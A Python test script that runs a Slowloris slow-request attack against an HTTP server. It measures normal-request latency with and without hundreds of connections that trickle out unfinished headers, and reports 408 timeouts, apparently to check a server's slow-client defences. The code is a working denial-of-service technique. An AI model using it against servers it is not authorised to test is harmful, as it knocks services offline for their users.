#!/usr/bin/env python3
"""Slowloris beside normal clients, against an HTTP server on HOST:PORT.

First measures normal requests alone (idle), then opens CONNS connections
that each send one byte of a request head every second (never finishing it)
and measures normal requests again while they trickle. A normal request is a
fresh connection, GET PATH, the whole answer read. Prints one JSON object:
idle and loaded latency percentiles (ms), how many trickling connections got
408, were closed without it, or were still open at the end.

Usage: slowloris.py HOST PORT PATH CONNS MEASURE_SECONDS TRICKLE_SECONDS
Every loop is bounded by the seconds given; traffic goes only to HOST:PORT.
"""
import json
import selectors
import socket
import sys
import time

HEAD = b"GET /v2/ HTTP/1.1\r\nHost: slow\r\nX-Slow: " + b"a" * 4000 + b"\r\n\r\n"


def one_request(host, port, path):
    start = time.perf_counter()
    with socket.create_connection((host, port), timeout=5) as s:
        s.sendall(f"GET {path} HTTP/1.1\r\nHost: n\r\nConnection: close\r\n\r\n".encode())
        data = b""
        while True:
            chunk = s.recv(4096)
            if not chunk:
                break
            data += chunk
    elapsed = (time.perf_counter() - start) * 1000
    return elapsed, data.split(b" ", 2)[1] if data.startswith(b"HTTP/1.1 ") else b"?"


def percentile(values, p):
    ordered = sorted(values)
    return ordered[min(len(ordered) - 1, int(len(ordered) * p / 100))]


def measure(host, port, path, seconds, pump=None):
    """Normal requests for `seconds`; pump() (if any) advances the tricklers."""
    times, statuses = [], {}
    end = time.monotonic() + seconds
    while time.monotonic() < end:
        if pump:
            pump()
        ms, status = one_request(host, port, path)
        times.append(ms)
        statuses[status.decode()] = statuses.get(status.decode(), 0) + 1
        time.sleep(0.002)
    return {"requests": len(times), "p50_ms": round(percentile(times, 50), 3),
            "p99_ms": round(percentile(times, 99), 3), "statuses": statuses}


class Tricklers:
    def __init__(self, host, port, count):
        self.sel = selectors.DefaultSelector()
        self.conns = []
        for _ in range(count):
            s = socket.create_connection((host, port), timeout=5)
            s.setblocking(False)
            self.conns.append({"sock": s, "sent": 0, "got": b"", "closed": False})
            self.sel.register(s, selectors.EVENT_READ, self.conns[-1])
        self.next_byte = time.monotonic()

    def pump(self):
        for key, _ in self.sel.select(timeout=0):
            c = key.data
            try:
                chunk = c["sock"].recv(4096)
            except (ConnectionResetError, BlockingIOError):
                chunk = b""
            if chunk:
                c["got"] += chunk
            else:
                c["closed"] = True
                self.sel.unregister(c["sock"])
        if time.monotonic() >= self.next_byte:
            self.next_byte += 1.0
            for c in self.conns:
                if c["closed"] or c["sent"] >= len(HEAD) - 1:
                    continue
                try:
                    c["sock"].send(HEAD[c["sent"]:c["sent"] + 1])
                    c["sent"] += 1
                except OSError:
                    pass

    def summary(self):
        got_408 = sum(1 for c in self.conns if c["got"].startswith(b"HTTP/1.1 408 "))
        other = sum(1 for c in self.conns if c["got"] and not c["got"].startswith(b"HTTP/1.1 408 "))
        closed_silent = sum(1 for c in self.conns if c["closed"] and not c["got"])
        still_open = sum(1 for c in self.conns if not c["closed"])
        for c in self.conns:
            c["sock"].close()
        return {"count": len(self.conns), "got_408": got_408, "other_answer": other,
                "closed_without_answer": closed_silent, "still_open": still_open}


def main():
    host, port, path = sys.argv[1], int(sys.argv[2]), sys.argv[3]
    conns, seconds, trickle = int(sys.argv[4]), float(sys.argv[5]), float(sys.argv[6])
    idle = measure(host, port, path, seconds)
    tricklers = Tricklers(host, port, conns)
    started = time.monotonic()
    tricklers.pump()
    loaded = measure(host, port, path, seconds, tricklers.pump)
    while time.monotonic() - started < trickle:
        tricklers.pump()
        time.sleep(0.01)
    print(json.dumps({"idle": idle, "loaded": loaded, "trickling": tricklers.summary()}))


if __name__ == "__main__":
    main()
